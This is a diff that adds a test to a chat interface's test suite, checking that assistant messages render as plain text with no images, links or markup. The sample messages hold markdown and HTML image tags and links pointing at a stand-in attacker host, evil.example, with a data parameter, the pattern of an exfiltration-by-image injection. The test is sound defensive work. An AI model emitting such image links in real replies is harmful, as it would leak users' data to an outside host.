@@ -57,6 +57,21 @@ describe('the conversation', () => {
     expect(within(log).getByText('This is the start of your conversation.')).toBeInTheDocument();
   });
 
+  it('shows each text as plain text: no link, picture or markup of its own (decision 300)', async () => {
+    const bodies = [
+      'See ![chart](https://evil.example/c.png?code=1) and [this](https://meet.google.com/abc)',
+      '<img src="https://evil.example/p.png?code=1"> <a href="https://evil.example">x</a>',
+      'Join https://meet.google.com/abc-defg-hij or **now**',
+    ];
+    serveAssistant({ messages: bodies.map((body, i) => message('out', body, ago((10 - i) * 60_000))) });
+    renderApp('/assistant', { user: {} });
+    const log = await screen.findByRole('log', { name: 'Conversation with your assistant' });
+    await waitFor(() => expect(within(log).getAllByRole('listitem')).toHaveLength(3));
+    expect(log.querySelectorAll('img, a, strong, picture, iframe')).toHaveLength(0);
+    expect(within(log).queryByRole('link')).toBeNull();
+    for (const body of bodies) expect(within(log).getByText(body)).toBeInTheDocument();
+  });
+
   it('in Chinese', async () => {
     await i18n.changeLanguage('zh');
     serveAssistant({ messages: conversation() });
